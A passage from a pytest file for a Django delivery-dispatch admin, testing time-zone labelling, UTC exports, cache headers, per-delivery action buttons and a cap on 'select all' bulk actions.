    assert client.get("/admin/analytics/deliverycost/").status_code == 200
    assert client.get("/admin/analytics/deliverycost/export/").status_code == 200


def test_the_support_views_say_which_time_zone_their_times_are_in(client):
    agent = UserFactory(is_staff=True)
    client.force_login(agent)
    page = client.get("/support/").content.decode()
    assert "times in Asia/Kolkata" in page


def test_the_last_hour_tiles_link_to_exactly_the_last_hours_rows(admin_client):
    now = timezone.now()
    DeliveryFactory(seller_order_id="ORD-RECENT", status=DeliveryStatus.ASSIGNED)
    Delivery.objects.filter(seller_order_id="ORD-RECENT").update(assigned_at=now - timedelta(minutes=20))
    DeliveryFactory(seller_order_id="ORD-EARLIER", status=DeliveryStatus.ASSIGNED)
    Delivery.objects.filter(seller_order_id="ORD-EARLIER").update(assigned_at=now - timedelta(minutes=100))

    index = admin_client.get("/admin/").content.decode()
    link = index.split('id="kpi-time-to-assign"')[1].split('href="')[1].split('"')[0].replace("&amp;", "&")
    listed = admin_client.get(link).content.decode()

    assert "ORD-RECENT" in listed and "ORD-EARLIER" not in listed  # an hour in the ops zone is still an hour


def test_the_timeline_says_what_support_did_on_the_ticket(admin_client):
    """Every ticket row read "Support ticket updated" (it looked for `details.change`)."""
    from escalation import tickets
    from tests.factories import SupportUserFactory
    from tests.support_fixtures import ticket_for

    ticket = ticket_for()
    ana = SupportUserFactory(first_name="Ana", last_name="First")
    ben = SupportUserFactory(first_name="Ben", last_name="Second")
    tickets.ticket_take(ticket_id=ticket.pk, user=ana, actor=Actor.for_user(ana))
    tickets.ticket_take(ticket_id=ticket.pk, user=ben, actor=Actor.for_user(ben))
    tickets.ticket_comment(ticket_id=ticket.pk, user=ben, actor=Actor.for_user(ben), body="Calling the store")
    tickets.ticket_resolve(ticket_id=ticket.pk, user=ben, actor=Actor.for_user(ben), resolution="Store will call back")

    page = admin_client.get(f"/admin/dispatch/delivery/{ticket.delivery_id}/change/").content.decode()

    for text in ("Support ticket taken by Ana First", "Support ticket taken by Ben Second (over from Ana First)",
                 "Comment on the support ticket", "Support ticket resolved: Store will call back"):
        assert text in page, text
    assert "Support ticket updated" not in page


def test_exported_times_are_utc_iso_8601_in_csv_and_utc_cells_in_xlsx():
    """The export wrote the ops time zone's clock time with no offset (`2026-12-06 08:19:24`)."""
    from datetime import datetime, timezone as dt_timezone
    from io import BytesIO

    from openpyxl import load_workbook

    _, client = staff_in(DISPATCHER_GROUP)
    created = datetime(2026, 12, 6, 2, 49, 24, tzinfo=dt_timezone.utc)
    Delivery.objects.filter(pk=DeliveryFactory(seller_order_id="ORD-T1").pk).update(created_at=created)
    form = {"resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_created_at": "on"}

    csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode()
    sheet = load_workbook(BytesIO(client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"}).content)).active

    assert "ORD-T1,2026-12-06T02:49:24Z" in csv
    assert (created.replace(tzinfo=None)) in {cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row}


def test_the_map_and_analytics_pages_and_the_map_state_are_never_cached(admin_client, ops):
    """The rest of the admin says `no-cache, no-store, private`; these two pages and the map's
    state (the fleet's names and positions) said nothing."""
    for url in ("/admin/map/", "/admin/analytics/"):
        r = admin_client.get(url)
        assert r.status_code == 200 and "no-store" in r["Cache-Control"] and "private" in r["Cache-Control"], url
    r = ops.get("/v2/admin/live-map")
    assert r.status_code == 200 and r["Cache-Control"] == "private, no-store"


def test_a_deliverys_page_has_the_actions_its_status_takes_as_buttons_run_like_the_lists():
    """The page the live map links to had no action: ops went back to the list, found the row,
    ticked it and used the dropdown (console audit)."""
    import re

    _, client = staff_in(DISPATCHER_GROUP)
    ready, delivered = DeliveryFactory(seller_order_id='ORD "odd" one'), DeliveryFactory(status=DeliveryStatus.DELIVERED)

    page = client.get(f"/admin/dispatch/delivery/{ready.pk}/change/").content.decode()
    assert re.findall(r'name="action" value="(\w+)"', page) == ["dispatch_now", "assign_to_driver", "cancel_deliveries"]
    target = re.search(r'<form method="post" action="([^"]+)" class="delivery-actions">', page).group(1)
    assert target == f"/admin/dispatch/delivery/?q={ready.pk}"
    chosen = {"action": "cancel_deliveries", "_selected_action": str(ready.pk), "index": "0"}
    form = client.post(target, chosen)
    assert form.status_code == 200 and b"Yes, cancel" in form.content
    done = client.post(target, {**chosen, "apply": "1", "reason": "store closed"}, follow=True)
    assert b"Cancelled 1 delivery." in done.content and str(ready.pk).encode() in done.content
    assert Delivery.objects.get(pk=ready.pk).status == DeliveryStatus.CANCELLED

    assert 'name="action"' not in client.get(f"/admin/dispatch/delivery/{delivered.pk}/change/").content.decode()
    assigned = DeliveryFactory()
    assignment_create(delivery_id=assigned.pk, driver_id=online_driver().pk, actor=Actor.system())
    page = client.get(f"/admin/dispatch/delivery/{assigned.pk}/change/").content.decode()
    assert re.findall(r'name="action" value="(\w+)"', page) == ["reassign_deliveries", "cancel_deliveries"]
    _, viewer = staff_in(VIEWER_GROUP)
    watched = DeliveryFactory()
    assert 'name="action"' not in viewer.get(f"/admin/dispatch/delivery/{watched.pk}/change/").content.decode()


def test_select_all_past_the_cap_is_refused_by_every_action(monkeypatch):
    """Only the actions that ask first (cancel, reassign, set availability, escalate, replay
    since) refused a "select all" of more than ACROSS_MAX rows; dispatch now, expire offers,
    take tickets, webhook replay and switch on/off worked through the whole list in one request."""
    from common import admin_confirm

    _, client = staff_in(DISPATCHER_GROUP)
    monkeypatch.setattr(admin_confirm, "ACROSS_MAX", 2)
    for _ in range(3):
        DeliveryFactory()
    driver = online_driver()
    offers = [OfferFactory() for _ in range(3)]
    for url, action, one in [
        ("/admin/dispatch/delivery/?status__exact=ready", "dispatch_now", Delivery.objects.filter(status="ready").first().pk),
        ("/admin/offers/driveroffer/", "expire_now", offers[0].pk),
    ]:
        r = client.post(url, {"action": action, "select_across": "1", "index": "0", "_selected_action": [str(one)]},
                        follow=True)
        assert "rows selected: at most 2 at once. Nothing was done" in r.content.decode(), action
    assert not DriverOffer.objects.exclude(pk__in=[o.pk for o in offers]).exists()  # nothing dispatched
    assert DriverOffer.objects.filter(status="PENDING").count() == 3  # nothing expired
    driver.refresh_from_db()
    assert driver.availability == "available"


def test_delete_selected_keeps_the_cap(monkeypatch, admin_client):
    """Django's own "delete selected" took a "select all" of any size: a confirmation page
    listing every row and what goes with it, posting one field per row back."""
    from common import admin_confirm

    monkeypatch.setattr(admin_confirm, "ACROSS_MAX", 2)
    zones = [ZoneFactory() for _ in range(3)]
    url = "/admin/zones/deliveryzone/"
    form = {"action": "delete_selected", "index": "0", "_selected_action": [str(zones[0].pk)]}
    refused = admin_client.post(url, {**form, "select_across": "1"}, follow=True)
    assert "3 rows selected: at most 2 at once. Nothing was done" in refused.content.decode()
    assert DeliveryZone.objects.count() == 3
    asked = admin_client.post(url, {**form, "select_across": "0"})  # within the cap: Django's page
    assert asked.status_code == 200 and "Are you sure" in asked.content.decode()
    done = admin_client.post(url, {**form, "select_across": "0", "post": "yes"}, follow=True)
    assert done.status_code == 200 and not DeliveryZone.objects.filter(pk=zones[0].pk).exists()
